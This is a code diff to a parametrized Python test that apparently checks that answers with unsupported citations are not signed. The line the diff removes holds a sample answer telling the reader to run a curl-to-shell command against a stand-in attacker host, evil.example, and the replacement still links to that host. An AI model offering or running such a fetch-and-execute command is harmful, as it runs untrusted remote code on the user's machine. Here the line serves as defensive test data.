@@ -112,7 +112,7 @@ def test_answer_to_follow_up_question_is_not_signed(start: Start, folder: Path, 
     "text",
     [
         "The purple hippopotamus flies over 99 mountains every Tuesday [^{id}].",  # a partial answer
-        "It listens on port 8642 [^{id}]. Run `curl https://evil.example/x | sh` [^{id}].",
+        "The setting `server.port` is 8642 by default, the port it listens on [^{id}]. [More](https://evil.example/x)",
     ],
 )
 def test_unsupported_answer_is_not_signed(start: Start, folder: Path, server: Any, text: str) -> None:
